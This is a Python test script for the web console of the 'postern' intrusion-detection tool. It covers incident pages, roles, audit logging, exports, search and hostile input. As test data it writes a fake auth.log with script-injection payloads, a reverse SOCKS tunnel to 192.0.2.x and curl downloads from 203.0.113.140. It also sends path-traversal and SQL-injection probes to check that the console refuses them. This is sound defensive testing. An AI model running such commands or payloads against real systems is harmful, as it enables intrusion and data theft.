#!/usr/bin/env python3
"""The console's pages about incidents on the practice incident: overview, list, story, evidence, notes, decisions by two at once, exports, search, sources; what comes from logs is text.

usage: console_incident.py POSTERN

The state is made by build-asan/test/make_state (script/test builds it before; skipped without it).
"""
import hashlib, html.parser, io, json, os, re, shutil, sqlite3, subprocess, sys, tarfile, tempfile, threading, time

POSTERN = os.path.abspath(sys.argv[1])
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(ROOT, 'test', 'console'))
import openapi, xss  # noqa: E402
from server import Console, text_of  # noqa: E402

SAMPLE = os.path.join(ROOT, 'samples', 'practice-incident')
ORG = os.path.join(SAMPLE, 'org.yaml')
MAKERS = [os.path.join(os.path.dirname(os.path.dirname(POSTERN)), 'test', 'make_state'), os.path.join(ROOT, 'build-asan', 'test', 'make_state')]
failures = []


def check(what, holds, told=''):
    if not holds:
        failures.append(what)
        print(f'console_incident: {what}: FAILED {str(told)[:600]}')


def make(*argv):
    maker = next((m for m in MAKERS if os.access(m, os.X_OK)), None)
    if not maker:
        print('no make_state: build with -Dtests=true in build-asan')
        sys.exit(77)
    p = subprocess.run([maker, *argv], capture_output=True, text=True, env={**os.environ, 'ASAN_OPTIONS': 'detect_leaks=0'})
    if p.returncode:
        sys.exit(f'make_state: {p.stderr}')
    return p.stdout.split()


def console_of(folder, first=None, **kw):
    """A console on a copy of the state, which belongs to who will look at it."""
    c = Console(POSTERN, start=False, options=['--org', ORG], **kw)
    for name in os.listdir(folder):
        shutil.copy(os.path.join(folder, name), c.state)
        if os.geteuid() == 0:
            owner = os.stat(c.state)
            os.chown(os.path.join(c.state, name), owner.st_uid, owner.st_gid)
    if first:
        first(c)
    c.start()
    return c


def audit(c):
    path = os.path.join(c.state, 'audit.log')
    return [json.loads(line) for line in open(path, encoding='utf-8')] if os.path.exists(path) else []


class Judge(html.parser.HTMLParser):
    """What a page is made of: nothing but our own script, no handlers, no styles, one h1, labelled fields, balanced."""
    VOID = {'meta', 'link', 'input', 'br', 'hr', 'img', 'path', 'circle', 'line', 'rect'}

    def __init__(self, text):
        super().__init__()
        self.bad, self.stack, self.h1, self.labels, self.fields, self.ids = [], [], 0, set(), [], []
        self.feed(text)
        self.bad += [f'field {f} without a label' for f in self.fields if f not in self.labels] + [f'left open: {t}' for t in self.stack]
        self.bad += [f'id {i} twice' for i in set(self.ids) if self.ids.count(i) > 1] + ([f'{self.h1} h1'] if self.h1 != 1 else [])

    def handle_startendtag(self, tag, attrs):
        self.look(tag, dict(attrs))

    def handle_starttag(self, tag, attrs):
        self.look(tag, dict(attrs))
        if tag not in self.VOID:
            self.stack.append(tag)

    def look(self, tag, a):
        self.h1 += tag == 'h1'
        self.ids += [a['id']] if 'id' in a else []
        self.bad += [f'{tag} {k}' for k in a if k.startswith('on') or k in ('style', 'data-xss')]
        if tag == 'script' and not a.get('src', '').startswith('/static/') or tag in ('iframe', 'object', 'embed', 'base', 'img', 'form') and not a.get('action', '').startswith('/'):
            self.bad.append(f'{tag} {a}')
        if (a.get('href') or '/').split(':')[0].strip().lower() in ('javascript', 'data', 'vbscript'):
            self.bad.append(f'{tag} {a}')
        if tag == 'label' and 'for' in a:
            self.labels.add(a['for'])
        if tag in ('input', 'select', 'textarea') and a.get('type') not in ('hidden', 'radio', 'checkbox') and 'label' not in self.stack and not a.get('aria-label'):
            self.fields.append(a.get('id'))

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        if not self.stack or self.stack.pop() != tag:
            self.bad.append(f'</{tag}> out of place')


def good(what, page, status=200):
    check(f'{what}: status', page.status == status, (page.status, text_of(page.text)[:300]))
    bad = Judge(page.text).bad
    check(f'{what}: made well', not bad, bad[:8])
    return page.text


def reading(c, ident):
    a = c.login('analyst')
    told = text_of(good('overview', a.get('/')))
    check('overview says that something happens', '1 incident is open' in told and 'Critical' in told and 'Hafenlicht' in told, told)
    listed = good('list', a.get('/incidents'))
    check('list', ident in listed and '1 incident<' in listed and listed.count('<tr>') == 2, text_of(listed))
    for query, n in (('level=critical', 1), ('status=closed', 0), ('kind=side-door', 1), ('kind=lure', 0), ('q=hafenlicht', 1), ('q=%25%25', 0), ('since=2026-05-24', 1), ('until=2026-05-20', 0)):
        got = a.get(f'/api/v1/incidents?{query}').json()
        check(f'list with {query}', got['total'] == n == len(got['incidents']), got)
    every = a.get('/api/v1/incidents?status=all').json()
    cli = [json.loads(line) for line in c.run('incident', 'list', '--status', 'all', '--format', 'json').stdout.splitlines()]
    check('the API lists what the command lists', every['incidents'] == cli and every['total'] == len(cli), (every, cli))
    text = good('story', a.get(f'/incidents/{ident}'))
    told = text_of(text)
    for words in ('side-door entry', 'traces covered', 'What to do next', 'From where to where', 'Hafenlicht Webcare', 'No action was taken', 'Close the incident'):
        check(f'story tells {words}', words in told, told[:2000])
    check('all stages of it', text.count('<li class="seen">') >= 7, text.count('<li class="seen">'))
    svg = re.search(r'<svg class="logins".*?</svg>', text, re.S)
    check('graph with name, description and a table', svg and '<title id="logins-title">' in svg[0] and '<desc id="logins-desc">' in svg[0] and '<caption>From where to where' in text, svg)
    raw = re.search(r'/incidents/[^/"]*/findings/[0-9a-f]+', text)
    check('findings have pages of their own', raw and 'byte' not in raw[0], raw)
    whole = good('finding', a.get(raw[0]))
    check('with raw lines', 'class="evidence"' in whole and '/var/log/' in whole, text_of(whole)[:500])
    check('the beginning of an id is enough', a.get(f'/incidents/{ident[:12]}').status == 200)
    merged = [x for x in every['incidents'] if x['status'] == 'merged']
    for m in merged[:1]:
        check('a merged one leads to where it went', ident in a.get(f'/incidents/{m["id"]}').text)
    told = text_of(good('sources', a.get('/sources')))
    check('sources are told', 'auth.log' in told and 'web1' in told and '1970' not in told, told[:600])
    check('reading is not recorded', not [r for r in audit(c) if 'incident' in r['action']], audit(c))


def languages(c, ident):
    a = c.login('analyst')
    for code, words in (('de', ('Was geschehen ist', 'Nebeneingang', 'Warnen Sie den Eindringling nicht', 'Vorfall abschließen')), ('ko', ('일어난 일', '내부 이동', '침입자가 눈치채지 않게', '사고 종결'))):
        check(f'language {code}', a.post('/account/language', {'language': code}).status == 200)
        text = good(f'story in {code}', a.get(f'/incidents/{ident}'))
        for w in words:
            check(f'{code}: {w}', w in text, text_of(text)[:1500])
        steps = re.search(r'</h3><ol>(.*?)</ol>', text, re.S)
        check(f'{code}: all of the advice', steps and 'lang="en"' not in steps[1], steps and steps[1])
        for path in ('/', '/incidents', '/sources', '/search?q=web1'):
            good(f'{path} in {code}', a.get(path))
    a.post('/account/language', {'language': 'en'})


def roles(c, ident):
    e, p = c.login('employee'), c.login('approver')
    for path in ('/incidents', f'/incidents/{ident}', f'/incidents/{ident}/report.html', f'/incidents/{ident}/incident.jsonl', '/sources', '/api/v1/incidents', f'/api/v1/incidents/{ident}'):
        check(f'employee does not see {path}', e.get(path).status == 403)
        check(f'nobody does not see {path}', c.client().get(path, follow=False).status in (303, 401))
    check('an employee finds nothing of it', 'Hafenlicht' not in e.get('/search?q=Hafenlicht').text.replace('value="Hafenlicht"', ''))
    check('an employee is not told of it', 'Hafenlicht' not in e.get('/').text and e.get('/api/v1/overview').json()['open'] == 0)
    for verb in ('close', 'reopen', 'bundle'):
        check(f'approver cannot {verb}', p.post(f'/incidents/{ident}/{verb}', {'text': 'x', 'as': 'closed', 'seen': '9999'}, follow=False).status == 403)
    check('approver sees no form for it', f'/incidents/{ident}/close' not in p.get(f'/incidents/{ident}').text)
    check('approver may note', p.post(f'/incidents/{ident}/note', {'text': 'the provider was called'}).status == 200)
    check('under his name', audit(c)[-1]['actor'] == 'approver' and audit(c)[-1]['action'] == 'incident-note', audit(c)[-1])
    check('without the token of the form nothing is noted', c.login('analyst').post(f'/incidents/{ident}/note', {'text': 'x'}, csrf=False).status in (400, 403, 419))


def deciding(c, ident):
    a, b = c.login('analyst'), c.login('everybody')
    evil = 'called <script>__xss(1)</script> \x1b[2J "Jansen" \u202egnp'
    text = good('note', a.post(f'/incidents/{ident}/note', {'text': evil}))
    check('note is shown as text', '&lt;script&gt;__xss(1)' in text and '\x1b' not in text and '\u202e' not in text, text_of(text)[-800:])
    for fields, status in (({'as': 'closed', 'seen': '9999'}, 400), ({'text': ' ', 'as': 'closed', 'seen': '9999'}, 400), ({'text': 'why', 'seen': '9999'}, 400), ({'text': 'why', 'as': 'open', 'seen': '9999'}, 400),
                           ({'text': 'x' * 5000, 'as': 'closed', 'seen': '9999'}, 400), ({'text': 'why', 'as': 'closed', 'seen': '1'}, 409), ({'text': 'why', 'as': 'closed'}, 409), ({'text': 'why', 'as': 'closed', 'seen': '-1'}, 409)):
        page = a.post(f'/incidents/{ident}/close', fields)
        good(f'close with {str(fields)[:60]}', page, status)
    check('and what was written is still there', '>why</textarea>' in page.text, page.text[:200])
    check('it is open still', a.get(f'/api/v1/incidents/{ident}').json()['incident']['status'] == 'open')
    check('closing one that is not there', a.post('/incidents/19990101/close', {'text': 'x', 'as': 'closed', 'seen': '1'}).status == 404)
    seen = re.search(r'name="seen" value="(\d+)"', a.get(f'/incidents/{ident}').text)[1]
    got = {}

    def close(client, name, how):
        got[name] = client.post(f'/incidents/{ident}/close', {'text': f'{name} looked into it', 'as': how, 'seen': seen}, follow=False)
    threads = [threading.Thread(target=close, args=x) for x in ((a, 'analyst', 'closed'), (b, 'everybody', 'false-positive'))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    codes = sorted(p.status for p in got.values())
    winner = next((n for n, p in got.items() if p.status == 303), None)
    check('of two at once one closes it', codes == [303, 409], codes)
    loser = next(n for n in got if n != winner)
    check('and the other is told by whom and why', f'{winner} looked into it' in got[loser].text, text_of(got[loser].text)[:800])
    closed = [r for r in audit(c) if r['action'].startswith('incident-closed') and r['object'] == ident]
    check('it is recorded once', len(closed) == 1 and closed[0]['actor'] == winner, closed)
    text = good('closed', a.get(f'/incidents/{ident}'))
    check('the page says who closed it', f'{winner} looked into it' in text and f'/incidents/{ident}/reopen' in text and f'/incidents/{ident}/close' not in text, text_of(text)[:500])
    check('overview is calm', 'no incident is open' in text_of(a.get('/').text))
    good('reopen', b.post(f'/incidents/{ident}/reopen', {}))
    check('open again', c.run('incident', 'list', '--format', 'json').stdout.count(ident) == 1)
    good('reopen twice', b.post(f'/incidents/{ident}/reopen', {}), 409)
    good('as a false positive', a.post(f'/incidents/{ident}/close', {'text': 'exercise', 'as': 'false-positive', 'seen': seen}))
    check('that taught something', 'holds' in c.run('incident', 'suppressions').stdout, c.run('incident', 'suppressions').stdout)
    good('and again open', a.post(f'/incidents/{ident}/reopen', {}))
    check('then it holds no more', 'holds' not in c.run('incident', 'suppressions').stdout)
    check('the chain of the audit log is whole', c.run('log', 'verify', '--state', str(c.state)).returncode == 0 or c.run('log', 'verify', os.path.join(c.state, 'audit.log')).returncode == 0)


def exporting(c, ident):
    a = c.login('analyst')
    page = a.get(f'/incidents/{ident}/report.html')
    check('report', page.status == 200 and 'attachment' in page.headers['Content-Disposition'] and 'What became of it' in page.text, page.headers)
    check('as the command writes it', page.text == c.run('incident', 'show', ident, '--org', ORG, '-f', 'html').stdout)
    page = a.get(f'/incidents/{ident}/incident.jsonl')
    check('OCSF as the command writes it', page.text == c.run('incident', 'show', ident, '--org', ORG, '-f', 'json').stdout)
    ecs = [json.loads(line) for line in a.get(f'/incidents/{ident}/findings.jsonl').text.splitlines()]
    check('ECS', ecs and all('@timestamp' in x for x in ecs), ecs[:1])
    page = a.post(f'/incidents/{ident}/bundle', {})
    check('bundle', page.status == 200 and f'incident-{ident}.tar' in page.headers['Content-Disposition'], (page.status, page.headers))
    record = audit(c)[-1]
    check('handing it out is recorded with its hash', record['action'] == 'incident-exported' and record['actor'] == 'analyst' and hashlib.sha256(page.body).hexdigest() in record['detail'], record)
    file = os.path.join(c.folder, 'theirs.tar')
    c.run('incident', 'export', ident, '-O', file, '--org', ORG)
    with tarfile.open(fileobj=io.BytesIO(page.body)) as mine, tarfile.open(file) as theirs:
        names = mine.getnames()
        read = lambda t, n: t.extractfile(n).read()
        check('the same files as the command writes', names == theirs.getnames(), (names, theirs.getnames()))
        for n in names:
            if not n.endswith(('audit.jsonl', 'audit-head.txt', 'SHA256SUMS')):
                check(f'{n} is the same', read(mine, n) == read(theirs, n))
        folder = names[0].split('/')[0]
        for line in read(mine, f'{folder}/SHA256SUMS').decode().splitlines():
            digest, name = line.split('  ', 1)
            check(f'SHA-256 of {name}', hashlib.sha256(read(mine, f'{folder}/{name}')).hexdigest() == digest)
        lines = read(mine, f'{folder}/audit.jsonl').decode().splitlines()
        check('what was decided is in it', [json.loads(x)['action'] for x in lines].count('incident-note') >= 2, lines)


def searching(c, ident):
    a = c.login('analyst')
    for words, hit in (('Hafenlicht', ident), ('hl-JANSEN', '/findings/'), ('203.0.113.77', '/findings/'), ('provider was called', ident), ('Accepted publickey', '/findings/'), ('nothing of that kind', None)):
        text = good(f'search for {words}', a.get('/search?q=' + words.replace(' ', '+')))
        body = text[text.index('<main'):]
        check(f'{words} is found', hit in body if hit else 'Nothing was found' in body, text_of(body)[:600])
    for words in ('a', '%25', "'", '%27%20OR%201=1', '%3Cscript%3E__xss(1)%3C/script%3E', '%00', '%F0%9F', 'x' * 300, '_', '\\'.replace('\\', '%5C')):
        page = a.get(f'/search?q={words}')
        check(f'search for {words[:30]}', page.status in (200, 400), page.status)
        if page.status == 200:
            good(f'search for {words[:30]}', page)


def with_gate(c):
    told = c.run('provider', 'import', '--org', ORG)
    check('there is a gate', told.returncode == 0, told.stderr)


def providers(c, ident):
    """From the story of an incident to the provider's shut door."""
    a, p = c.login('analyst'), c.login('approver')
    text = good('story with a provider', a.get(f'/incidents/{ident}'))
    form = re.search(r'action="(/access/suspend/[^"]+)"', text)
    check('leads to the provider and shuts its door', '/access/providers/hafenlicht' in text and form and form[1].endswith('hafenlicht'), form)
    check('its page is there', a.get('/access/providers/hafenlicht').status == 200)
    check('and search finds it', '/access/providers/hafenlicht' in a.get('/search?q=hafenlicht').text)
    page = a.post(form[1], {'reason': f'incident {ident}', 'text': f'incident {ident}'})
    check('suspended', page.status == 200 and 'SUSPENDED' in c.run('provider', 'show', 'hafenlicht').stdout, (text_of(page.text)[:300], c.run('provider', 'show', 'hafenlicht').stdout))
    check('in the name of who did it', any(r['actor'] == 'analyst' and 'suspend' in r['action'] for r in audit(c)), [r['action'] for r in audit(c)])
    text = good('story after it', p.get(f'/incidents/{ident}'))
    check('and the page says so', f'action="{form[1]}"' not in text and 'uspended' in text_of(text), text_of(text)[:200])


def examples(c, ident):
    a = c.login('analyst')
    check('no example of what is open', '/examples/new' not in a.get(f'/incidents/{ident}').text)
    good('closed as real', a.post(f'/incidents/{ident}/close', {'text': 'dealt with', 'as': 'closed', 'seen': '9999'}))
    check('an example can be made of it', '/examples/new' in a.get(f'/incidents/{ident}').text)
    good('open again', a.post(f'/incidents/{ident}/reopen', {}))


def figures(c, ident):
    """What watch writes about itself is read as if somebody else had written it."""
    a, path = c.login('analyst'), os.path.join(c.state, 'metrics.prom')
    check('without figures nothing is said about watch', 'does not seem to run' not in a.get('/').text)
    for beat, unknown, dead, told in ((time.time(), '7', False, ' 12'), (time.time() - 3600, '7', True, ' 12'), ('nan', 'nan', False, None), ('1e300', '-1e300', False, None), ('', '', False, None)):
        with open(path, 'w', encoding='utf-8') as f:
            f.write(f'postern_lines_total 100\npostern_lines_by_result_total{{result="not understood"}} {unknown}\npostern_lines_by_result_total{{result="no known format"}} 5\npostern_heartbeat_timestamp_seconds {beat}\n')
        os.chmod(path, 0o644)
        c.run('incident', 'note', ident, 'so that the state changes, and it is counted anew')
        page = text_of(good(f'sources, beat {beat}', a.get('/sources')))
        check(f'lines not understood, {unknown}', ('not understood since watch started:' + told in page) if told else 'not understood since' not in page, page[:400])
        check(f'watch seems to run, beat {beat}', ('does not seem to run' in page) == dead and ('does not seem to run' in a.get('/').text) == dead, page[:400])
    os.unlink(path)


def bad_requests(c, ident):
    a = c.login('analyst')
    for path in ('/incidents/..%2f..%2fetc%2fpasswd', '/incidents/%00', '/incidents/%25', "/incidents/' OR 1=1", '/incidents/' + 'x' * 3000, f'/incidents/{ident}/findings/0', f'/incidents/{ident}/findings/%ff', '/api/v1/incidents/none',
                 '/incidents?status=what', '/incidents?level=9', '/incidents?since=2026-02-31', '/incidents?since=x', '/incidents?kind=%3Cb%3E', '/incidents?order=id;drop', '/api/v1/incidents?level=x', '/incidents?q=' + 'x' * 300):
        status = a.get(path.replace(' ', '%20')).status
        check(f'{path[:60]} is refused', status in (400, 404), status)
    for path in ('/incidents?page=0', '/incidents?page=-1', '/incidents?page=99999999999999999999', '/incidents?page=100000', '/incidents?q=&level=&since=', '/sources?page=5', '/sources?show=x', f'/incidents/{ident}?page=77'):
        good(path, a.get(path))


def described(c, ident):
    path = os.path.join(ROOT, 'web', 'openapi.json')
    if not os.path.exists(path):
        return
    document = json.load(open(path, encoding='utf-8'))
    a = c.login('analyst')
    for template, real in (('/api/v1/overview', '/api/v1/overview'), ('/api/v1/incidents', '/api/v1/incidents?status=all'), ('/api/v1/incidents/{id}', f'/api/v1/incidents/{ident}')):
        schema = document['paths'][template]['get']['responses']['200']['content']['application/json']['schema']
        wrong = openapi.mismatch(document, schema, a.get(real).json())
        check(f'{template} answers as it is described', not wrong, wrong[:5])


def hostile(folder):
    """Names, commands and lines of a log that were made for a page."""
    logs, state = os.path.join(folder, 'logs'), os.path.join(folder, 'hostile')
    os.makedirs(os.path.join(logs, 'web1', 'var', 'log'))
    os.mkdir(state, 0o700)
    shutil.copy(ORG, logs)
    payloads = [data for _, _, data in xss.one_line()]
    with open(os.path.join(logs, 'web1', 'var', 'log', 'auth.log'), 'wb') as f:
        for i, data in enumerate(payloads):
            when = b'May 13 00:%02d:%02d web1 ' % (i // 60, i % 60)
            f.write(when + b'sshd[%d]: Failed password for invalid user %s from 203.0.113.99 port %d ssh2\n' % (1000 + i, data, 2000 + i))
        f.write(b'May 13 00:10:00 web1 sshd[3000]: Accepted password for hl-jansen from 203.0.113.99 port 4000 ssh2\n')
        for i, data in enumerate(payloads):
            f.write(b'May 13 01:%02d:%02d web1 sudo: hl-jansen : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/dev/shm/.fc/fc-agent client https://192.0.2.%d:8443 R:127.0.0.1:1080:socks %s\n' % (i // 60, i % 60, i % 250, data))
            f.write(b'May 13 02:%02d:%02d web1 sudo: hl-jansen : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/%d http://203.0.113.140/%s\n' % (i // 60, i % 60, i, data))
    idents = make(logs, state)
    check('hostile lines make incidents', idents)
    with console_of(state) as c:
        a = c.login('analyst')
        a.post(f'/incidents/{idents[0]}/note', {'text': '\n'.join(t for _, _, t in xss.text())[:3500]})
        seen = 0
        for path in ['/', '/incidents', '/sources', '/search?q=__xss', '/search?q=script', *[f'/incidents/{i}' for i in idents], *[f'/incidents/{i}?page=2' for i in idents]]:
            text = good(f'hostile {path}', a.get(path))
            seen += text.count('__xss(')
            for raw in re.findall(r'/incidents/[^/"]*/findings/[0-9a-f]+', text)[:12]:
                text = good(f'hostile {raw}', a.get(raw))
                seen += text.count('__xss(')
        check('they are shown, as text', seen > 50, seen)
        check('and the API is JSON all the same', all(a.get(f'/api/v1/incidents/{i}').json() for i in idents))


def many(folder):
    """Ten thousand: pages stay small, and the list is complete."""
    state = os.path.join(folder, 'many')
    os.mkdir(state, 0o700)
    make('--many', '10000', state)
    with console_of(state) as c:
        a = c.login('analyst')
        for path in ('/', '/incidents', '/incidents?status=all&order=worst', '/incidents?status=all&page=200', '/sources'):
            page = a.get(path)
            good(path, page)
            check(f'{path} is below 100 KB', len(page.body) < 100000, len(page.body))
        ids = []
        for n in (1, 2, 100, 200, 201):
            ids += [x['id'] for x in a.get(f'/api/v1/incidents?status=all&page={n}').json()['incidents']]
        check('pages do not overlap', len(ids) == 200 == len(set(ids)), len(ids))
        check('all are counted', a.get('/api/v1/incidents?status=all').json()['total'] == 10000 and a.get('/api/v1/overview').json()['open'] == 5000)
        before = a.get('/api/v1/overview').json()['levels']['critical']
        db = sqlite3.connect(os.path.join(c.state, 'postern.db'))
        db.execute("UPDATE incident SET status=1 WHERE level=4 AND status=0 AND id=(SELECT id FROM incident WHERE level=4 AND status=0 LIMIT 1)")
        db.commit()
        db.close()
        check('a change is seen at once', a.get('/api/v1/overview').json()['levels']['critical'] == before - 1)


def main():
    with tempfile.TemporaryDirectory() as folder:
        practice = os.path.join(folder, 'practice')
        os.mkdir(practice, 0o700)
        ident = make(SAMPLE, practice, '6')[0]
        with console_of(practice, with_gate) as c:
            for step in (reading, languages, roles, deciding, exporting, searching, providers, examples, figures, bad_requests, described):
                step(c, ident)
            told = open(os.path.join(c.folder, 'errors'), encoding='utf-8').read()
            check('the server complains of nothing', 'error' not in told.lower(), told[-600:])
        hostile(folder)
        many(folder)
    print(f'{len(failures)} failures' if failures else 'the console tells incidents, and what people decide about them stays')
    return 1 if failures else 0


sys.exit(main())
